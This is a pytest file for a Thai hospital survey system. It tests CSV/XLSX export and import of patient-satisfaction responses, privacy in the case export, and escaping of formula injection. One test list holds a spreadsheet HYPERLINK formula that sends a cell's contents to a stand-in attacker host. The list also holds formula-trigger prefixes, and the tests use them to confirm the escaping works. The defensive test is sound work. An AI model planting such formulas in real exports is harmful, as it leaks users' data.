"""CSV/XLSX export of survey responses and cases, and import of survey exports through a column mapping."""

from __future__ import annotations

import csv
import shutil
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlmodel import select

from bot.settings import REPO_ROOT
from store.db import make_engine, make_session_factory
from store.exports import MappingError, csv_safe, export_table, import_surveys, load_mapping
from store.indicator import IndicatorConfig, compute_kpi, parse_period
from store.models import SurveyItemScore, SurveyResponse
from tests.reports.helpers import add_case, add_response
from tests.support import Store

OWN = REPO_ROOT / "config" / "import" / "patient_voice_export.toml"
FORMS = REPO_ROOT / "config" / "import" / "google_forms_example.toml"
NOW = datetime(2026, 11, 26, 2, tzinfo=UTC)


async def _seed(store: Store) -> None:
    async with store.sessions() as s:
        await add_response(s, service="opd", day=date(2026, 10, 1), mean=3.51, department="opd", dims=(3.5, 3.5, None),
                           items={"p1": ("process", 4), "p2": ("process", 3), "c1": ("confidence", 5)},
                           comment="รอนาน, แต่ \"พยาบาล\" ใจดี\nขอบคุณครับ")
        await add_response(s, service="ipd", day=date(2026, 10, 2), mean=3.5, department="ward_med",
                           items={"s1": ("staff", 3)})
        await add_response(s, service="opd", day=date(2026, 9, 30), mean=5.0, channel="telegram")
        await add_case(s, number="2570-0001", created=datetime(2026, 10, 3, tzinfo=UTC), severity="B",
                       primary_topic="waiting", summary="ชื่อผู้ป่วย สมชาย 0812345678")
        await s.commit()


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
async def test_export_then_import_round_trip(store: Store, tmp_path: Path, sqlite_template: Path, suffix: str) -> None:
    """Exported surveys imported into an empty database give the same indicator and the same item scores."""
    await _seed(store)
    out = tmp_path / f"surveys{suffix}"
    async with store.sessions() as s:
        assert await export_table(s, what="surveys", out=out) == 3
    target = tmp_path / "fresh.db"
    shutil.copy(sqlite_template, target)
    engine = make_engine(f"sqlite+aiosqlite:///{target}")
    sessions = make_session_factory(engine)
    try:
        async with sessions() as s:
            result = await import_surveys(s, path=out, mapping=load_mapping(OWN), now=NOW)
            await s.commit()
        assert (result.imported, result.skipped) == (3, 0)
        config = IndicatorConfig()
        for label in ("FY2570", "FY2569"):
            period = parse_period(label, today=date(2026, 11, 1))
            async with store.sessions() as s:
                before = (await compute_kpi(s, period=period, config=config)).to_dict()
            async with sessions() as s:
                after = (await compute_kpi(s, period=period, config=config)).to_dict()
            assert before == after, label
        async with sessions() as s:
            rows = (await s.exec(select(SurveyResponse).order_by(SurveyResponse.visit_date))).all()
            scores = (await s.exec(select(SurveyItemScore))).all()
        assert {r.source for r in rows} == {"import"}
        assert rows[1].comment == "รอนาน, แต่ \"พยาบาล\" ใจดี\nขอบคุณครับ" and rows[1].process_mean == 3.5
        assert sorted((x.item_code, x.dimension, x.score) for x in scores) == [
            ("c1", "confidence", 5), ("p1", "process", 4), ("p2", "process", 3), ("s1", "staff", 3)]
    finally:
        await engine.dispose()


async def test_case_export_has_no_personal_text(store: Store, tmp_path: Path) -> None:
    """The case export lists numbers, severities and dates, never the complaint text or patient."""
    await _seed(store)
    out = tmp_path / "cases.csv"
    async with store.sessions() as s:
        period = parse_period("2026-10", today=date(2026, 11, 1))
        assert await export_table(s, what="cases", out=out, period=period) == 1
    text = out.read_text(encoding="utf-8-sig")
    assert "2570-0001" in text and "waiting" in text
    assert "สมชาย" not in text and "0812345678" not in text and "patient_id" not in text


def _forms_rows() -> list[list[object]]:
    header = ["ประทับเวลา", "วันที่รับบริการ", "ประเภทผู้รับบริการ", "หน่วยงานที่รับบริการ",
              "ขั้นตอนการให้บริการไม่ยุ่งยาก ซับซ้อน", "ระยะเวลารอคอยเหมาะสม", "เจ้าหน้าที่สุภาพ ให้เกียรติ",
              "เจ้าหน้าที่อธิบายชัดเจน", "สถานที่สะอาด มีที่นั่งพอ", "ท่านมั่นใจในบริการของโรงพยาบาล",
              "ความพึงพอใจโดยรวม", "ข้อเสนอแนะ"]
    return [
        header,
        ["15/10/2569 09:30:00", "15/10/2569", "ผู้ป่วยนอก", "งานผู้ป่วยนอก", "มากที่สุด", "มาก", "5", "4", "มาก",
         "มากที่สุด", "5", "ดีมากครับ"],  # mean of 5 satisfaction items = 4.4 → satisfied
        ["16/10/2569 10:00:00", "16/10/2569", "ผู้ป่วยใน", "งานผู้ป่วยใน", "ปานกลาง", "น้อย", "3", "4", "ปานกลาง",
         "มาก", "3", ""],  # mean 3.0 → not satisfied
        ["17/10/2569 10:00:00", "31/02/2569", "ผู้ป่วยนอก", "", "5", "5", "5", "5", "5", "", "", ""],  # bad date
        ["17/10/2569 10:00:00", "17/10/2569", "ญาติ", "", "5", "5", "5", "5", "5", "", "", ""],  # unknown type
        ["17/10/2569 10:00:00", "17/10/2569", "ผู้ป่วยนอก", "", "ดีมาก", "5", "5", "5", "5", "", "", ""],  # bad score
    ]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
async def test_import_google_forms_export(store: Store, tmp_path: Path, suffix: str) -> None:
    """A Thai Google Forms sheet (B.E. dates, text answers) is imported; bad rows are skipped by number."""
    path = tmp_path / f"forms{suffix}"
    rows = _forms_rows()
    if suffix == ".csv":
        with path.open("w", encoding="utf-8", newline="") as fh:
            csv.writer(fh).writerows(rows)
    else:
        wb = Workbook()
        ws = wb.active
        assert ws is not None
        for row in rows:
            ws.append(row)
        wb.save(path)
    async with store.sessions() as s:
        result = await import_surveys(s, path=path, mapping=load_mapping(FORMS), now=NOW)
        await s.commit()
    assert (result.imported, result.skipped) == (2, 3)
    assert [e.split(":")[0] for e in result.errors] == ["row 4", "row 5", "row 6"]
    async with store.sessions() as s:
        kpi = await compute_kpi(s, period=parse_period("2026-10", today=date(2026, 11, 1)), config=IndicatorConfig())
        [opd] = (await s.exec(select(SurveyResponse).where(SurveyResponse.service_type == "opd"))).all()
    assert (kpi.opd.respondents, kpi.opd.satisfied, kpi.ipd.respondents, kpi.ipd.satisfied) == (1, 1, 1, 0)
    assert (opd.visit_date, opd.mean_score, opd.process_mean, opd.staff_mean) == (date(2026, 10, 15), 4.4, 4.5, 4.5)
    assert (opd.channel, opd.source, opd.department_code, opd.overall) == ("paper", "import", "opd", 5)


def test_mapping_errors_are_clear(tmp_path: Path) -> None:
    """A mapping without a date column or with an unknown field or dimension is refused with the reason."""
    bad = tmp_path / "m.toml"
    bad.write_text('[columns]\nservice_type = "x"\n', encoding="utf-8")
    with pytest.raises(MappingError, match="visit_date"):
        load_mapping(bad)
    bad.write_text('[columns]\nvisit_date = "d"\nservice_type = "t"\nname = "n"\n', encoding="utf-8")
    with pytest.raises(MappingError, match="not a survey field"):
        load_mapping(bad)
    bad.write_text('[columns]\nvisit_date = "d"\nservice_type = "t"\n[[item]]\ncolumn = "a"\ncode = "a"\n'
                   'dimension = "food"\n', encoding="utf-8")
    with pytest.raises(MappingError, match="dimension"):
        load_mapping(bad)


async def test_xlsx_export_opens_with_thai_headers(store: Store, tmp_path: Path) -> None:
    """The XLSX export opens in openpyxl with the item columns named by dimension and code."""
    await _seed(store)
    out = tmp_path / "s.xlsx"
    async with store.sessions() as s:
        await export_table(s, what="surveys", out=out, period=parse_period("FY2570", today=date(2026, 11, 1)))
    ws = load_workbook(out, read_only=True).worksheets[0]
    header = [c.value for c in next(ws.iter_rows(max_row=1))]
    assert header[:4] == ["id", "submitted_at", "visit_date", "service_type"]
    assert "item.process.p1" in header and "item.confidence.c1" in header


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")', "+1+2", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
async def test_exported_comments_never_become_formulas(store: Store, tmp_path: Path, suffix: str) -> None:
    """Imported comments starting with = + - @ export as inert text, never as live formulas, and come back
    unchanged when the export is imported again."""
    header, first = _forms_rows()[:2]
    source = tmp_path / "forms.csv"
    with source.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([header, *([*first[:-1], text] for text in FORMULAS)])
    async with store.sessions() as s:
        assert (await import_surveys(s, path=source, mapping=load_mapping(FORMS), now=NOW)).imported == len(FORMULAS)
        await s.commit()
    out = tmp_path / f"surveys{suffix}"
    async with store.sessions() as s:
        assert await export_table(s, what="surveys", out=out) == len(FORMULAS)
        stored = sorted(str(r.comment) for r in (await s.exec(select(SurveyResponse))).all())
    assert all(text.startswith(("=", "+", "-", "@")) for text in stored)  # the import trims leading blanks
    if suffix == ".csv":
        with out.open(encoding="utf-8-sig", newline="") as fh:
            comments = [row["comment"] for row in csv.DictReader(fh)]
        assert sorted(comments) == ["'" + text for text in stored]
    else:
        ws = load_workbook(out).active
        assert ws is not None
        column = [c.value for c in next(ws.iter_rows(max_row=1))].index("comment") + 1
        cells = [ws.cell(row=r, column=column) for r in range(2, ws.max_row + 1)]
        assert {c.data_type for c in cells} == {"s"}
        assert sorted(str(c.value) for c in cells) == stored
    async with store.sessions() as s:
        again = await import_surveys(s, path=out, mapping=load_mapping(OWN), now=NOW)
        await s.commit()
        comments = sorted(str(r.comment) for r in (await s.exec(select(SurveyResponse))).all())
    assert again.imported == len(FORMULAS) and comments == sorted(stored * 2)


def test_csv_escapes_tab_and_carriage_return_starts() -> None:
    """A text starting with a tab or CR (which some spreadsheets skip before a formula) is escaped too."""
    assert [csv_safe(v) for v in ("\t=1", "\r=1", "ดี", 5, -1)] == ["'\t=1", "'\r=1", "ดี", 5, -1]
